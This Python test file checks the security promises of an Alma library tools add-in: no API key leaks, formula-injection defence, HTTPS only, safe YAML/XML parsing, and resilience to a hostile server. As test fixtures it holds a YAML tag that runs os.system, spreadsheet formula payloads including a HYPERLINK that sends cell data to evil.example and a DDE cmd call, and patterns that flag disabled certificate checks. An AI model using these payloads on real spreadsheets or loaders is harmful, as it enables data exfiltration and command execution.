"""Security promises tested on the real code: the key, formula injection, HTTPS, safe parsers, hostile Alma.

* The API key is in no file the product writes, no message, no exception and no process argument (the fault
  matrix checks the same with a canary key across every fault).
* Text from Alma or from input that starts with ``=``, ``+``, ``-``, ``@`` (or a tab/CR before them) reaches
  cells as text, never as a formula.
* Plain http is refused for every host that is not this machine; certificate checks are never turned off.
* Configuration is read with ``yaml.safe_load``; Alma's XML is parsed without entity expansion; a hostile
  server (huge bodies, XML bombs, slow drip) cannot take the client down.
"""

from __future__ import annotations

import ast
import csv
import subprocess
import sys
import time
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest

from alma_tools.cells import is_formula_like
from alma_tools.errors import ConfigError
from harness import (
    CANARY_KEY,
    DATA,
    TRACEBACK,
    SimulatorProcess,
    SimulatorSpec,
    files_containing,
    make_items_csv,
    product_env,
    read_csv_text,
    read_results,
    run_discharge,
)

SOURCE = Path(__file__).resolve().parent.parent / "addin" / "alma_tools"

# --------------------------------------------------------------------------------------------- static checks

#: functions that parse XML with the standard library's or lxml's defaults (entities expanded, DTDs read)
_XML_MODULES = ("xml.etree", "xml.dom", "xml.sax", "xml.parsers", "lxml")
_XML_PARSERS = {
    "fromstring",
    "fromstringlist",
    "XML",
    "parse",
    "iterparse",
    "XMLParser",
    "parseString",
    "make_parser",
    "XMLPullParser",
    "ParserCreate",
}
_YAML_UNSAFE = {"load", "load_all", "unsafe_load", "unsafe_load_all", "full_load", "full_load_all"}
_SAFE_LOADERS = {"SafeLoader", "CSafeLoader", "BaseLoader", "CBaseLoader"}
_TLS_OFF_TEXT = (
    "CERT_NONE",
    "_create_unverified_context",
    "disable_warnings",
    "PYTHONHTTPSVERIFY",
    "CURL_CA_BUNDLE",
)


def _aliases(tree: ast.Module) -> dict[str, str]:
    """Local name -> fully qualified module or object it was imported as."""
    names: dict[str, str] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                if alias.asname:
                    names[alias.asname] = alias.name
                else:
                    top = alias.name.split(".")[0]
                    names[top] = top
        elif isinstance(node, ast.ImportFrom) and node.module:
            for alias in node.names:
                names[alias.asname or alias.name] = f"{node.module}.{alias.name}"
    return names


def _dotted(node: ast.AST) -> str | None:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        inner = _dotted(node.value)
        return f"{inner}.{node.attr}" if inner else None
    return None


def _qualified_calls(tree: ast.Module) -> list[tuple[ast.Call, str]]:
    """Every call whose target is an imported name, as (call, fully qualified name)."""
    aliases = _aliases(tree)
    calls = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            name = _dotted(node.func)
            if name:
                head, _, rest = name.partition(".")
                if head in aliases:
                    calls.append((node, f"{aliases[head]}.{rest}" if rest else aliases[head]))
    return calls


def unsafe_patterns(source: str, filename: str = "<source>") -> list[str]:
    """Places in ``source`` that parse XML unsafely, load YAML unsafely or switch off certificate checks."""
    tree = ast.parse(source, filename)
    found = []
    for call, name in _qualified_calls(tree):
        where = f"{filename}:{call.lineno}"
        module, _, func = name.rpartition(".")
        if module.startswith(_XML_MODULES) and func in _XML_PARSERS:
            found.append(f"{where}: {name} parses XML without defusedxml")
        if module == "yaml" and func in _YAML_UNSAFE:
            loader = next((k.value for k in call.keywords if k.arg == "Loader"), None)
            loader_name = (_dotted(loader) or "") if loader is not None else ""
            if loader_name.rpartition(".")[2] not in _SAFE_LOADERS:
                found.append(f"{where}: {name} without a safe loader (use yaml.safe_load)")
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.keyword)
            and node.arg == "verify"
            and isinstance(node.value, ast.Constant)
            and node.value.value is False
        ):
            found.append(f"{filename}:{node.value.lineno}: verify=False")
        is_false = isinstance(getattr(node, "value", None), ast.Constant) and node.value.value is False
        if isinstance(node, ast.Assign) and is_false:
            for target in node.targets:
                if isinstance(target, ast.Attribute) and target.attr in ("verify", "check_hostname"):
                    found.append(f"{filename}:{node.lineno}: {target.attr} = False")
    for number, line in enumerate(source.splitlines(), 1):
        found += [f"{filename}:{number}: {text}" for text in _TLS_OFF_TEXT if text in line]
    return found


def _product_sources() -> list[Path]:
    files = sorted(SOURCE.rglob("*.py"))
    assert len(files) > 10, f"product sources not found under {SOURCE}"
    return files


def test_source_tree_has_no_unsafe_parsing_or_tls_switches() -> None:
    """No verify=False, no unsafe yaml.load, no standard-library XML parsing in the product's code."""
    found = [
        hit
        for path in _product_sources()
        for hit in unsafe_patterns(path.read_text(encoding="utf-8"), str(path.relative_to(SOURCE)))
    ]
    assert not found, "\n".join(found)


def test_product_uses_the_safe_parsers() -> None:
    """The product does read YAML with safe_load and XML with defusedxml (so the check above is not empty)."""
    names = {
        name
        for path in _product_sources()
        for _, name in _qualified_calls(ast.parse(path.read_text(encoding="utf-8")))
    }
    assert "yaml.safe_load" in names
    assert any(name.startswith("defusedxml.") for name in names), sorted(n for n in names if "xml" in n)


@pytest.mark.parametrize(
    ("snippet", "expected"),
    [
        ("import xml.etree.ElementTree as ET\nET.fromstring(b)", "xml.etree.ElementTree.fromstring"),
        ("from xml.etree import ElementTree\nElementTree.parse(f)", "xml.etree.ElementTree.parse"),
        ("from lxml import etree\netree.fromstring(b)", "lxml.etree.fromstring"),
        ("from xml.dom.minidom import parseString\nparseString(b)", "xml.dom.minidom.parseString"),
        ("import yaml\nyaml.load(t)", "yaml.load without a safe loader"),
        ("import yaml\nyaml.load(t, Loader=yaml.FullLoader)", "yaml.load without a safe loader"),
        ("import yaml as y\ny.unsafe_load(t)", "yaml.unsafe_load"),
        ("import requests\nrequests.get(u, verify=False)", "verify=False"),
        ("s = requests.Session()\ns.verify = False", "verify = False"),
        ("import ssl\nctx = ssl._create_unverified_context()", "_create_unverified_context"),
    ],
)
def test_the_static_check_finds_unsafe_code(snippet: str, expected: str) -> None:
    """The checker really flags each unsafe form (a check that cannot fail proves nothing)."""
    found = unsafe_patterns(snippet)
    assert any(expected in hit for hit in found), found


@pytest.mark.parametrize(
    "snippet",
    [
        "import yaml\nyaml.safe_load(t)",
        "import yaml\nyaml.load(t, Loader=yaml.SafeLoader)",
        "import defusedxml.ElementTree as ET\nET.fromstring(b)",
        "import xml.etree.ElementTree as ET\nET.Element('x')",
        "import requests\nrequests.get(u, verify=True)",
    ],
)
def test_the_static_check_accepts_safe_code(snippet: str) -> None:
    assert unsafe_patterns(snippet) == []


# --------------------------------------------------------------------------------------------- configuration


def resolve_key_in_a_process(home: Path) -> subprocess.CompletedProcess[str]:
    """Look the key up as the product does, in a process whose home is ``home``; prints 'refused: …'."""
    probe = (
        "from alma_tools.alma.keys import resolve_api_key\n"
        "from alma_tools.errors import ConfigError\n"
        "try:\n    resolve_api_key()\nexcept ConfigError as error:\n    print('refused:', error)\n"
    )
    return subprocess.run(
        [sys.executable, "-c", probe],
        env=product_env(home, api_key=None),
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def test_config_yaml_cannot_run_code(tmp_path: Path) -> None:
    """A settings file with a Python-object tag is refused with a message; the tag's command never runs."""
    home = tmp_path / "home"
    marker = tmp_path / "pwned"
    config = home / ".config" / "alma-tools" / "config.yaml"
    config.parent.mkdir(parents=True)
    config.write_text(f'api_key: !!python/object/apply:os.system ["touch {marker}"]\n', encoding="utf-8")
    done = resolve_key_in_a_process(home)
    assert not marker.exists(), "the YAML tag ran a command"
    assert done.returncode == 0 and TRACEBACK not in done.stderr, done.stderr
    assert "refused:" in done.stdout and "config.yaml" in done.stdout, done.stdout


def test_config_key_with_canary_is_not_echoed(tmp_path: Path) -> None:
    """A broken settings file holding the key is reported without quoting the key (the parser would)."""
    home = tmp_path / "home"
    config = home / ".config" / "alma-tools" / "config.yaml"
    config.parent.mkdir(parents=True)
    config.write_text(f"api_key: {CANARY_KEY}\n  bad: [indent\n", encoding="utf-8")
    done = resolve_key_in_a_process(home)
    assert "refused:" in done.stdout, done.stdout + done.stderr
    assert CANARY_KEY not in done.stdout + done.stderr


# --------------------------------------------------------------------------------------------- HTTPS


@pytest.mark.parametrize(
    "url",
    [
        "http://example.org",
        "http://api-eu.hosted.exlibrisgroup.com",
        "http://localhost.example.org",
        "http://127.0.0.1.nip.io",
        "ftp://example.org",
        "https://example.org/almaws/v1?apikey=x",
    ],
)
def test_plain_http_to_a_remote_host_is_refused(url: str) -> None:
    from alma_tools.alma import AlmaClient

    with pytest.raises(ConfigError) as caught:
        AlmaClient(base_url=url, api_key=CANARY_KEY)
    assert CANARY_KEY not in str(caught.value)


@pytest.mark.parametrize(
    "url",
    [
        "https://example.org",
        "https://api-eu.hosted.exlibrisgroup.com/almaws/v1",
        "http://127.0.0.1:9",
        "http://localhost:9",
        "http://[::1]:9",
    ],
)
def test_https_and_loopback_are_accepted_without_a_request(url: str) -> None:
    """Making a client sends nothing (this machine has no route to example.org: a request would fail)."""
    from alma_tools.alma import AlmaClient

    client = AlmaClient(base_url=url, api_key=CANARY_KEY)
    try:
        assert client.quota_remaining is None  # no answer was ever seen
    finally:
        client.close()


def test_region_gateways_are_all_https() -> None:
    from alma_tools.alma.regions import REGIONS, resolve_base_url

    for code in REGIONS:
        assert resolve_base_url(region=code).startswith("https://")


# --------------------------------------------------------------------------------------------- hostile Alma

HOSTILE_ITEMS = 3


def _hostile_sim(tmp_path: Path, mode: str) -> SimulatorProcess:
    spec = SimulatorSpec(
        items=make_items_csv(tmp_path / "sim" / "items.csv", HOSTILE_ITEMS),
        locations=DATA / "locations.csv",
        latency="0.0-0.0",
        hostile=mode,
    )
    return SimulatorProcess(spec, tmp_path / "sim")


@pytest.mark.parametrize("mode", ["huge", "xmlbomb", "drip"])
def test_hostile_answer_ends_in_an_alma_error_within_bounds(tmp_path: Path, mode: str) -> None:
    """Huge bodies, XML bombs and one-byte-a-second answers end in an AlmaError in bounded time and memory."""
    from alma_tools.alma import AlmaClient, AlmaError, RetryPolicy

    first = read_csv_text(DATA / "items_to_discharge.csv").iloc[0]
    with _hostile_sim(tmp_path, mode) as sim:
        client = AlmaClient(
            base_url=sim.base_url,
            api_key=CANARY_KEY,
            timeout=(2, 2),
            deadline=4,
            retry=RetryPolicy(server_attempts=1, connect_attempts=1, jitter=0),
        )
        tracemalloc.start()
        started = time.monotonic()
        try:
            with pytest.raises(AlmaError) as caught:
                client.get_item(first["MMS Id"], first["Holding Id"], first["Item Id"])
            elapsed = time.monotonic() - started
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
            client.close()
    assert elapsed < 10, f"{mode}: the client took {elapsed:.1f} s to give up (deadline 4 s)"
    assert peak < 64 * 2**20, f"{mode}: the client held {peak / 2**20:.0f} MiB while reading the answer"
    assert CANARY_KEY not in str(caught.value) and CANARY_KEY not in repr(caught.value)


@pytest.mark.parametrize(
    ("mode", "at_key_check"),
    [
        ("huge", True),
        ("xmlbomb", True),
        # the key check's short wait does not cover a dripping answer; each scan then ends without one
        pytest.param("drip", False, marks=pytest.mark.slow),
    ],
)
def test_hostile_alma_run_ends_with_a_message(tmp_path: Path, mode: str, at_key_check: bool) -> None:
    """The discharge command facing a hostile server ends with a message and no traceback: at the key check,
    before any scan (exit 2, the file as it was), or with every row saying why it is not done (exit 1)."""
    work = tmp_path / "work"
    # one row is enough where each call waits for the client's deadline (40 s)
    items = make_items_csv(work / "items.csv", HOSTILE_ITEMS if at_key_check else 1)
    original = items.read_bytes()
    with _hostile_sim(tmp_path, mode) as sim:
        run = run_discharge(items, sim.base_url, work, timeout=150)
    run.check_clean()
    if at_key_check:
        assert run.returncode == 2, run.describe()
        assert "No item was scanned" in run.stderr, run.describe()
        assert items.read_bytes() == original
    else:
        assert run.returncode == 1, run.describe()
        results = read_results(items)
        assert (results["status"].str.strip() != "").all(), results
    assert files_containing(work) == []


# --------------------------------------------------------------------------------------------- formulas

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
]


def _as_text(written: object, original: str) -> bool:
    """A payload survived as text: unchanged in a typed text cell, or with Excel's text prefix ``'``.

    A writer may also trim the leading tab or CR (the statistics do, to group titles); what is left must then
    still be text, not a formula.
    """
    return written in (original, "'" + original, original.strip(), "'" + original.strip())


def _items_with_payloads(path: Path, *, fmt: str) -> pd.DataFrame:
    """Sample items whose titles (and one location code) are formula payloads."""
    frame = read_csv_text(DATA / "items_to_discharge.csv").head(len(PAYLOADS))
    frame["Title"] = PAYLOADS
    frame.loc[frame.index[-1], "Location Code"] = "@cmd"  # no desk for it: the status names the code
    frame.loc[frame.index[-1], "Temporary Location Code"] = ""
    path.parent.mkdir(parents=True, exist_ok=True)
    if fmt == "csv":
        frame.to_csv(path, index=False, quoting=csv.QUOTE_ALL, encoding="utf-8-sig")
    else:
        book = openpyxl.Workbook()
        sheet = book.active
        sheet.append(list(frame.columns))
        for values in frame.itertuples(index=False):
            sheet.append([None] * len(values))
            for column, value in enumerate(values, 1):
                if value != "":
                    cell = sheet.cell(sheet.max_row, column)
                    cell.value = value
                    cell.data_type = "s"  # a text cell, as Analytics writes it
        book.save(path)
    return frame


def _no_formula_cells(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_discharge_results_never_hold_a_formula(tmp_path: Path, fmt: str) -> None:
    """Titles from input and Alma that look like formulas come back as text in the results file."""
    work = tmp_path / "work"
    items = work / f"items.{fmt}"
    original = _items_with_payloads(items, fmt=fmt)
    sim_items = tmp_path / "sim" / "items.csv"
    _items_with_payloads(sim_items, fmt="csv")
    sim_frame = read_csv_text(sim_items)
    sim_frame.loc[sim_frame.index[-1], "Location Code"] = original.iloc[0]["Location Code"]
    sim_frame.to_csv(sim_items, index=False, quoting=csv.QUOTE_ALL, encoding="utf-8-sig")
    spec = SimulatorSpec(items=sim_items, locations=DATA / "locations.csv", latency="0.0-0.01")
    with SimulatorProcess(spec, tmp_path / "sim") as sim:
        run = run_discharge(items, sim.base_url, work, timeout=120)
    run.check_clean()
    assert run.returncode == 1, run.describe()  # the row with location "@cmd" has no desk
    results = read_results(items)
    if fmt == "xlsx":
        assert _no_formula_cells(items) == []
    titles = list(results["Title"])
    assert all(_as_text(t, p) for t, p in zip(titles, PAYLOADS, strict=True)), titles
    statuses = list(results["status"])
    assert not [s for s in statuses if is_formula_like(s)], statuses
    assert "@cmd" in statuses[-1], statuses[-1]
    assert all(results["done"].iloc[:-1].map(lambda v: v is True or str(v).upper() == "TRUE")), results


def test_statistics_never_hold_a_formula(tmp_path: Path) -> None:
    """Titles and call numbers that look like formulas stay text in the statistics XLSX and CSV."""
    from alma_tools.concurrency import compute, read_loans, write_csv, write_xlsx

    book = openpyxl.load_workbook(DATA / "loans_export.xlsx")
    sheet = book.active
    header = [cell.value for cell in sheet[3]]
    title_col, mms_col = header.index("Title") + 1, header.index("MMS Id") + 1
    call_col = header.index("Permanent Call Number") + 1
    payload_of: dict[str, str] = {}
    for row in range(4, sheet.max_row + 1):
        mms = sheet.cell(row, mms_col).value
        if not mms or not str(mms).isdigit():
            continue
        if mms not in payload_of and len(payload_of) < len(PAYLOADS):
            payload_of[mms] = PAYLOADS[len(payload_of)]
        if mms in payload_of:
            for column, value in ((title_col, payload_of[mms]), (call_col, "-" + payload_of[mms][1:])):
                cell = sheet.cell(row, column)
                cell.value = value
                cell.data_type = "s"
    sheet.delete_rows(600, sheet.max_row)  # the first volumes are enough; keeps the test fast
    loans_path = tmp_path / "loans.xlsx"
    book.save(loans_path)

    stats = compute(read_loans(loans_path))
    write_xlsx(stats, tmp_path / "stats.xlsx")
    write_csv(stats, tmp_path / "stats.csv")
    assert _no_formula_cells(tmp_path / "stats.xlsx") == []
    values = [
        cell.value
        for sheet in openpyxl.load_workbook(tmp_path / "stats.xlsx").worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    for payload in PAYLOADS:
        assert any(_as_text(value, payload) for value in values), f"{payload!r} missing from the report"
    with (tmp_path / "stats.csv").open(encoding="utf-8-sig", newline="") as handle:
        texts = [cell for row in csv.reader(handle) for cell in row]
    assert not [text for text in texts if is_formula_like(text)], "formula-like text in the statistics CSV"


def test_excel_face_never_writes_a_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, simulator: Callable[..., Any]
) -> None:
    """The ribbon's Discharge writes Alma's and the input's texts into the sheet as text only.

    Driven through xlwings' remote engine (the real object model, no Excel): no value of any recorded
    ``setValues`` action may be one a spreadsheet would run as a formula.
    """
    from alma_tools import excel
    from fixtures_simulator import TEST_KEY
    from samples import make_items
    from xl_payload import actions, caller_books, locations_rows, payload

    items = make_items(len(PAYLOADS), seed=3)
    items["Title"] = PAYLOADS
    sim = simulator(items=items)
    settings = [
        ["Setting", "Value"],
        ["AlmaBaseUrl", sim.base_url],
        ["AlmaRate", 25],
        ["LocationType", "auto"],
    ]
    data = payload(
        {
            "Items": [list(items.columns), *items.to_numpy().tolist()],
            "Locations": locations_rows(DATA),
            "Settings": settings,
        },
        names={
            "AlmaBaseUrl": ("Settings", "B2"),
            "AlmaRate": ("Settings", "B3"),
            "LocationType": ("Settings", "B4"),
        },
    )
    books = caller_books(tmp_path, monkeypatch)
    book = next(books)(data)
    try:
        run = excel.discharge()
        assert run is not None and run.wait(timeout=60), actions(book, "alert")
        written = [
            value for action in actions(book, "setValues") for row in action["values"] for value in row
        ]
        assert len(sim.stats()["scans"]) == len(PAYLOADS), sim.stats()
        assert written, "the discharge wrote nothing"
        assert not [v for v in written if is_formula_like(v)], written
        assert TEST_KEY not in str(written)
    finally:
        next(books, None)
